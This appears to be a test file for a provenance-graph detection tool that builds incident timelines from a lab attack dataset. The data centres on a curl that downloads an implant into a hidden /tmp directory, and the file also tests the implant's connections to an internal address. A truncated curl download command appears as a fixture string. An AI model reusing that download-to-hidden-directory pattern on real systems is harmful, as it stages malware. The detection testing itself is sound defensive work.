"""Tests of incident timelines, built from the real nodlink attack graph around the implant
irqbalance-d4 and the curl that downloaded it."""

from __future__ import annotations

import functools
from pathlib import Path

from provarmor.graph.builder import GraphBuilder
from provarmor.graph.records import Edge, Node
from provarmor.graph.store import MemoryGraphStore
from provarmor.investigation.knowledge import Finding
from provarmor.investigation.timeline import build_steps, describe
from provarmor.model.alert import Alert
from provarmor.model.attack import AttackRef
from provarmor.sources.base import HostContext, IngestReport
from provarmor.sources.ndjson import read_ndjson

FIXTURE = Path(__file__).resolve().parents[2] / "data" / "lab" / "nodlink-ubuntu-seed1"
CURL = "lGr1O9t9OlhCkMzP"
IMPLANT = "nUXt0S1qsVBsEXaf"
CURL_NAME = "curl [22438] (curl -s -o /tmp/.portal-6ww3/irqbalance-d4 http://10.213....)"
IMPLANT_NAME = "irqbalance-d4 [22435] (/tmp/.portal-6ww3/irqbalance-d4)"


@functools.cache
def _graph() -> tuple[dict[str, Node], tuple[Edge, ...]]:
    path = FIXTURE / "events.ndjson.gz"
    builder, store = GraphBuilder(), MemoryGraphStore()
    for event in read_ndjson(path, report=IngestReport(source=str(path)), host=HostContext()):
        builder.add(event)
    store.apply(builder.drain(full=True))
    edges = {e.id: e for n in (IMPLANT, CURL) for e in store.out_edges(n) + store.in_edges(n)}
    nodes = {i: store.nodes[i] for e in edges.values() for i in (e.src, e.dst)}
    return nodes, tuple(edges.values())


def _alert() -> Alert:
    return Alert(
        id="alert-1",
        rule_id="r1",
        rule_title="Download of an executable to a hidden directory",
        level="high",
        techniques=(AttackRef(id="T1105", name="Ingress Tool Transfer"),),
        process_entity_ids=(CURL,),
        event_ids=("event-1",),
        first_timestamp=1795880254609073184,
        last_timestamp=1795880254609073184,
        count=2,
    )


def _finding() -> Finding:
    return Finding(
        pattern="written-then-executed",
        techniques=("T1105",),
        nodes=(CURL, IMPLANT),
        timestamp=1795880254613593208,
        text="curl wrote /tmp/.portal-6ww3/irqbalance-d4, which then ran",
    )


def test_flows_become_grouped_steps_in_time_order() -> None:
    nodes, edges = _graph()
    steps, cut = build_steps(nodes, list(edges), alerts=[], findings=[], limit=100)
    assert cut == 0
    assert len(steps) == 21
    stamps = [s.timestamp for s in steps]
    assert stamps == sorted(stamps)
    texts = [s.text for s in steps]
    assert f"{IMPLANT_NAME} started {CURL_NAME}" in texts
    assert f"{CURL_NAME} created /tmp/.portal-6ww3/irqbalance-d4" in texts
    assert f"{CURL_NAME} connected to 10.213.0.223:8443" in texts
    assert f"{IMPLANT_NAME} ran /tmp/.portal-6ww3/irqbalance-d4" in texts


def test_flows_into_a_process_name_the_process_as_subject() -> None:
    nodes, edges = _graph()
    steps, _ = build_steps(nodes, list(edges), alerts=[], findings=[], limit=100)
    received = next(s for s in steps if s.subject == CURL and s.action == "recv")
    assert received.text == f"{CURL_NAME} received data from 10.213.0.223:8443"
    assert nodes[received.object].label == "10.213.0.223:8443"
    ran = next(s for s in steps if s.subject == CURL and s.action == "exec")
    assert ran.text == f"{CURL_NAME} ran /usr/bin/curl"


def test_connections_to_one_address_are_one_step_with_a_count() -> None:
    nodes, edges = _graph()
    steps, _ = build_steps(nodes, list(edges), alerts=[], findings=[], limit=100)
    (connects,) = [
        s
        for s in steps
        if s.subject == IMPLANT and s.action == "connect" and "10.213.0.223" in s.text
    ]
    assert connects.text == f"{IMPLANT_NAME} connected to 10.213.0.223:8443 and 6 more"
    assert connects.count == 28


def test_file_reads_and_library_maps_are_not_steps() -> None:
    nodes, edges = _graph()
    assert any(e.action == "open" for e in edges)
    assert any(e.action == "mmap_exec" for e in edges)
    steps, _ = build_steps(nodes, list(edges), alerts=[], findings=[], limit=100)
    assert not {s.action for s in steps} & {"open", "mmap_exec", "read"}


def test_signals_and_findings_become_steps_with_their_attack_references() -> None:
    nodes, edges = _graph()
    steps, _ = build_steps(nodes, list(edges), alerts=[_alert()], findings=[_finding()], limit=100)
    assert len(steps) == 23
    signal = next(s for s in steps if s.action == "signal")
    assert signal.text == ("sigma signal (high): Download of an executable to a hidden directory")
    assert (signal.subject, signal.alert_ids, signal.event_id, signal.count) == (
        CURL,
        ("alert-1",),
        "event-1",
        2,
    )
    finding = next(s for s in steps if s.action == "pattern:written-then-executed")
    assert (finding.subject, finding.object) == (CURL, IMPLANT)
    assert [t.id for t in finding.techniques] == ["T1105"]
    assert [t.id for t in finding.tactics] == ["TA0011"]


def test_a_limit_keeps_signals_and_findings_first_and_reports_the_total() -> None:
    nodes, edges = _graph()
    steps, total = build_steps(
        nodes, list(edges), alerts=[_alert()], findings=[_finding()], limit=4
    )
    assert total == 23
    assert len(steps) == 4
    actions = [s.action for s in steps]
    assert "signal" in actions and "pattern:written-then-executed" in actions
    flows = [s for s in steps if s.action not in ("signal", "pattern:written-then-executed")]
    assert [s.timestamp for s in flows] == [1795880254593069799, 1795880254593597852]
    assert [s.timestamp for s in steps] == sorted(s.timestamp for s in steps)


def test_describe_names_processes_with_pid_and_short_command() -> None:
    nodes, _ = _graph()
    assert describe(nodes[CURL]) == CURL_NAME
    file = next(n for n in nodes.values() if n.path == "/tmp/.portal-6ww3/irqbalance-d4")
    assert describe(file) == "/tmp/.portal-6ww3/irqbalance-d4"
